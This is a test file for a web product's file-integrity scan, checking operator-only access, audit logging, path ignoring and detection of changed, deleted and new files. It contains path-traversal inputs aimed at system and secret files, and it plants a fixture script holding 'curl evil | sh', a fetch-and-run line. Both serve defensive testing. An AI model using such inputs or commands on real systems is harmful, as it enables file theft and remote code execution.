// The integrity scan of Tern's installed files (tern-auth/v1 /security-scan-settings): over real HTTP on this
// installation (built with its manifest by the test command) for the routes, operators only, every change in the
// audit log; and on a copy of the installation, a file changed after the build reported as modified, a deleted one
// as missing, a new one as unexpected, and no longer reported once its path is ignored.
import t from 'tap';
import { cpSync, mkdtempSync, rmSync, unlinkSync, writeFileSync, appendFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startHarness } from './helpers/harness.js';
import { logIn, operatorOn, PASSWORD, signedInOn, withSession, type SignedIn } from './helpers/dashboard-session.js';
import { signInInBrowser, startBrowser } from './helpers/browser.js';
import { seriousViolations } from './helpers/axe.js';
import { IntegrityScan } from '../shared/core/integrity-scan.js';
import { createLogger } from '../shared/log.js';
import { projectPath } from '../shared/paths.js';
import type { SystemMail } from '../shared/core/system-mail.js';
import type { Operator } from '../shared/domain/user.js';

const h = await startHarness();
t.teardown(() => h.close());
const BASE = '/api/tern-auth/v1/security-scan-settings';
const operator: SignedIn = await logIn(h, await operatorOn(h));
const as = (s: SignedIn, body?: unknown) => ({ ...withSession(s), ...(body === undefined ? {} : { body }) });
const log = createLogger('test', 'silent');

t.test('operators turn the scan on, read its findings, view a file, ignore a path and turn it off; others are refused', async (t) => {
  t.match((await h.request('GET', BASE, as(operator))).body, { status: 'off', files_covered: Number, last_scan: null });
  t.match((await h.request('GET', `${BASE}/scan`, as(operator))).body, { code: 'rest_invalid_param', data: { params: { scan: /off/ } } }, 'no scan while off');
  const on = await h.request('POST', `${BASE}/register`, as(operator, {}));
  t.equal(on.status, 200, on.text);
  t.match(on.body, { status: 'on', daily: true, next_scan_at: String, last_scan: { scanned_at: String, modified: Array, missing: Array, unexpected: Array } });
  t.ok((on.body as { files_covered: number }).files_covered > 100, 'the manifest covers the built code');
  t.match((await h.request('GET', `${BASE}/scan`, as(operator))).body, { scanned_at: String, clean: Boolean });

  const file = await h.request('GET', `${BASE}/scan/view-file?path=dist/shared/config.js`, as(operator));
  t.equal(file.status, 200);
  t.match(file.body, { path: 'dist/shared/config.js', size: Number, content: /loadConfig/ });
  for (const path of ['../../etc/passwd', '/etc/passwd', 'data/tern.db', 'node_modules/pg/package.json', 'config/.env', 'dist/../../x'])
    t.match(
      (await h.request('GET', `${BASE}/scan/view-file?path=${encodeURIComponent(path)}`, as(operator))).body,
      { code: 'rest_invalid_param', data: { status: 400, params: { path: String } } },
      `${path} is refused`,
    );

  t.match((await h.request('POST', `${BASE}/scan/toggle-ignore`, as(operator, { path: 'dist/shared/config.js' }))).body, {
    path: 'dist/shared/config.js',
    ignored: true,
  });
  t.match((await h.request('GET', BASE, as(operator))).body, { ignores: ['dist/shared/config.js'] });
  t.match((await h.request('POST', `${BASE}/scan/reset-ignores`, as(operator, {}))).body, { cleared: 1 });
  t.match((await h.request('POST', `${BASE}/scan/update-schedule-scan`, as(operator, { daily: false }))).body, { daily: false, next_scan_at: null });
  t.match((await h.request('POST', `${BASE}/scan/update-schedule-scan`, as(operator, { daily: 'sometimes' }))).body, {
    code: 'rest_invalid_param',
    data: { params: { daily: String } },
  });
  t.match((await h.request('POST', `${BASE}/scan/reset-api`, as(operator, {}))).body, { status: 'off', last_scan: null });

  const actions = (await h.rt.store.auditLog.list({ targetId: 'integrity_scan' }, { page: 1, perPage: 20 })).rows.map((e) => e.action);
  t.same(actions, ['integrity.reset', 'integrity.schedule', 'integrity.reset_ignores', 'integrity.ignore', 'integrity.register'], 'every change audited');

  t.equal((await h.request('GET', BASE)).status, 401, 'anonymous');
  const owner = await signedInOn(h);
  t.equal((await h.request('GET', BASE, as(owner.session))).status, 403, "an account's owner is no operator");
  t.equal((await h.request('GET', `${BASE}/scan/view-file?path=package.json`, as(owner.session))).status, 403);
});

t.test('on a copy of the installation: a changed, a deleted and a new file are reported until their paths are ignored', async (t) => {
  const root = mkdtempSync(join(tmpdir(), 'tern-install-'));
  t.teardown(() => rmSync(root, { recursive: true, force: true }));
  for (const part of [
    'package.json',
    'package-lock.json',
    'dist/api',
    'dist/mta',
    'dist/shared',
    'dist/integrity-manifest.json',
    'config',
    'systemd',
    'scripts',
    'api/web/static',
  ])
    cpSync(projectPath(part), join(root, part), { recursive: true });
  const operatorUser = (await h.rt.store.users.listOperators())[0] as Operator;
  const scan = new IntegrityScan({ store: h.rt.store, mail: {} as SystemMail }, root);
  const registered = await scan.register(operatorUser, log);
  t.ok(registered.ok);
  t.same(
    registered.ok && registered.value.last && [registered.value.last.modified, registered.value.last.missing, registered.value.last.unexpected],
    [[], [], []],
    'a fresh copy matches its manifest',
  );

  appendFileSync(join(root, 'dist/shared/config.js'), '\n// changed after the build\n');
  unlinkSync(join(root, 'systemd', (await import('node:fs')).readdirSync(join(root, 'systemd'))[0]!));
  writeFileSync(join(root, 'scripts/dropped-in.sh'), 'curl evil | sh\n');
  const found = await scan.scanNow(log);
  t.ok(found.ok);
  if (!found.ok) return;
  t.same(found.value.modified, ['dist/shared/config.js'], 'the changed file');
  t.equal(found.value.missing.length, 1, 'the deleted file');
  t.same(found.value.unexpected, ['scripts/dropped-in.sh'], 'the new file');

  await scan.toggleIgnore(operatorUser, 'dist/shared/config.js');
  const again = await scan.scanNow(log);
  t.same(again.ok && again.value.modified, [], 'an ignored path is no longer reported');
  t.same(again.ok && again.value.ignored, ['dist/shared/config.js'], 'but said to be ignored');
  await scan.resetIgnores(operatorUser);
  await scan.reset(operatorUser);
});

t.test('in Chromium: an operator turns the scan on at /admin/integrity, scans now and turns it off, the page accessible', async (t) => {
  const email = await operatorOn(h);
  const browser = await startBrowser();
  t.teardown(() => browser.close());
  const p = await browser.context.newPage();
  await signInInBrowser(p, h.url, email, PASSWORD, (path) => path.startsWith('/admin'));
  await p.goto(`${h.url}/admin/integrity`);
  t.same(await seriousViolations(p), [], 'the scan while off');
  await p.click('#scan-on');
  t.match(await (await p.waitForSelector('p.notice')).textContent(), /The integrity scan is on/);
  t.match(await p.textContent('#scan-status'), /daily, next/);
  t.same(await seriousViolations(p), [], 'the scan with its findings');
  await p.click('#scan-now');
  t.match(await (await p.waitForSelector('p.notice')).textContent(), /Scanned just now/);
  await p.click('#toggle-daily');
  t.match(await (await p.waitForSelector('#scan-status')).textContent(), /only when asked/);
  p.on('dialog', (d) => void d.accept());
  await p.click('#scan-off');
  t.match(await (await p.waitForSelector('p.notice')).textContent(), /The integrity scan is off/);
});
